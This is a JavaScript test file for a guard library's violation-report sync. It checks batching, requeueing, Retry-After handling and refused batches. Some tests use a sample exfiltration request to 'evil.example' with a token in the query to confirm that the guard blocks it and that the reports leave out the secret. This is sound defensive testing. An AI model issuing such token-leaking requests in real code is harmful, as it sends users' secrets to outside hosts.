// Violation reports from the sync (docs/protocols.md P2): the wasm guard's own
// log, sent on the report interval and when the app goes to the background;
// a failed send is requeued (nothing lost, nothing doubled), a 429's
// Retry-After holds the next send back, a batch the server refuses as such
// (400/413/404) is not sent again. The policy comes from a real guard serve;
// the reports endpoint is a local recorder that answers what each case needs,
// plus, where the server has it, the server's own endpoint.
// Run: node --test js/test/
import { test, after } from 'node:test';
import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { sync } from '../src/index.js';
import { fakeWx, tick } from './fixture.mjs';
import { demoServer, memoryStorage, CONFIG_URL, SUPERAPP, SHOP, PUBLIC } from './sync-fixture.mjs';

const closers = [];
after(() => Promise.all(closers.map((c) => c())));

/** A reports endpoint that answers from `script` (status, headers) and records each POST. */
async function recorder(script) {
  const got = [];
  const waiters = [];
  const srv = createServer((req, res) => {
    let body = '';
    req.on('data', (d) => { body += d; });
    req.on('end', () => {
      const [status, headers = {}] = script.length > 0 ? script.shift() : [202];
      got.push({ method: req.method, type: req.headers['content-type'], body: JSON.parse(body), status });
      res.writeHead(status, { 'content-type': 'application/json', ...headers });
      res.end(status === 202 ? '{"accepted":1,"refused":0}' : '{"error":{"code":"x","message":"x"}}');
      for (const w of waiters.splice(0)) w();
    });
  });
  await new Promise((r) => srv.listen(0, '127.0.0.1', r));
  closers.push(() => new Promise((r) => { srv.closeAllConnections(); srv.close(r); }));
  return {
    url: `http://127.0.0.1:${srv.address().port}/api/v1/superapps/${SUPERAPP}/reports`,
    got,
    next: () => new Promise((r) => waiters.push(r)),
  };
}

async function setup(script, extra = {}) {
  const s = await demoServer();
  closers.push(() => s.close());
  const rec = await recorder(script);
  const config = (await s.as('boss')('GET', `/api/v1/superapps/${SUPERAPP}/config.json`)).body;
  let clock = Math.floor(Date.now() / 1000);
  const net = { up: true };
  const synced = await sync({
    config: { ...config, reports_url: rec.url },
    fetch: async (url, init) => {
      if (!net.up) throw new TypeError('fetch failed: offline');
      return url.startsWith(PUBLIC) ? s.fetch(url, init) : fetch(url, init);
    },
    storage: memoryStorage(),
    now: () => clock,
    intervalSeconds: 0.05,
    reportIntervalSeconds: 3600,
    ...extra,
  });
  closers.push(() => synced.stop());
  const mp = synced.guard.wrap(fakeWx(), { appId: SHOP });
  return { s, rec, synced, mp, net, advance: (n) => { clock += n; }, now: () => clock };
}

const subjects = (batch) => batch.reports.map((r) => [r.app, r.kind, r.api ?? r.host, r.code, r.count]);

test('background(): reports go out; a failed send is requeued, a 429 holds back until Retry-After, then all arrive once', async () => {
  const { rec, synced, mp, advance } = await setup([[500], [429, { 'retry-after': '120' }], [202]]);
  mp.chooseImage({ fail() {} });
  mp.request({ url: 'https://evil.example/steal?token=secret', fail() {} });
  await tick();
  assert.equal(await synced.background(), 'requeued');
  assert.equal(rec.got.length, 1);
  assert.equal(rec.got[0].type, 'application/json');
  assert.deepEqual(subjects(rec.got[0].body), [
    [SHOP, 'api', 'chooseImage', 'permission_not_granted', 1],
    [SHOP, 'request', 'evil.example', 'domain_not_whitelisted', 1],
  ]);
  assert.ok(!JSON.stringify(rec.got[0].body).includes('secret'), 'never a path or query');
  mp.chooseImage({ fail() {} });
  await tick();
  assert.equal(await synced.background(), 'requeued');
  // The requeued batch merged with the new denial: counted, not doubled.
  assert.deepEqual(subjects(rec.got[1].body)[0], [SHOP, 'api', 'chooseImage', 'permission_not_granted', 2]);
  assert.equal(synced.status().reports.retryAt !== null, true);
  assert.equal(await synced.background(), 'retry_later');
  advance(60);
  assert.equal(await synced.background(), 'retry_later');
  assert.equal(rec.got.length, 2, 'nothing sent while Retry-After lasts');
  advance(61);
  assert.equal(await synced.background(), 'sent');
  assert.deepEqual(subjects(rec.got[2].body), subjects(rec.got[1].body));
  assert.equal(synced.status().reports.sent, 2);
  assert.equal(await synced.background(), 'empty');
  assert.equal(rec.got.length, 3);
});

test('a batch the server refuses as such is not sent again; the network down requeues', async () => {
  const { rec, synced, mp, net } = await setup([[400]]);
  mp.chooseImage({ fail() {} });
  await tick();
  assert.equal(await synced.background(), 'refused');
  assert.equal(synced.status().reports.refused, 1);
  assert.equal(await synced.background(), 'empty');
  mp.request({ url: 'https://evil.example/', fail() {} });
  await tick();
  net.up = false;
  assert.equal(await synced.background(), 'requeued');
  assert.equal(await synced.background(), 'requeued');
  net.up = true;
  assert.equal(await synced.background(), 'sent');
  assert.equal(rec.got.length, 2, 'the refused batch once, then the requeued one');
  assert.deepEqual(subjects(rec.got[1].body), [[SHOP, 'request', 'evil.example', 'domain_not_whitelisted', 1]]);
});

test('reports are sent on the report interval without being asked', async () => {
  const { rec, mp } = await setup([], { reportIntervalSeconds: 0.05 });
  const arrived = rec.next();
  mp.chooseImage({ fail() {} });
  await arrived;
  assert.deepEqual(subjects(rec.got[0].body), [[SHOP, 'api', 'chooseImage', 'permission_not_granted', 1]]);
});

test('a denied call reaches guard serve\'s violations API', async () => {
  const s = await demoServer();
  closers.push(() => s.close());
  const synced = await sync({ configUrl: CONFIG_URL, fetch: s.fetch, storage: memoryStorage(), intervalSeconds: 0.05 });
  closers.push(() => synced.stop());
  const mp = synced.guard.wrap(fakeWx(), { appId: SHOP });
  mp.request({ url: 'https://evil.example/x', fail() {} });
  await tick();
  const outcome = await synced.background();
  assert.equal(outcome, 'sent');
  const v = await s.as('boss')('GET', `/api/v1/apps/${SHOP}/violations`);
  assert.equal(v.status, 200, JSON.stringify(v.body));
  assert.ok(JSON.stringify(v.body).includes('evil.example'), JSON.stringify(v.body));
});
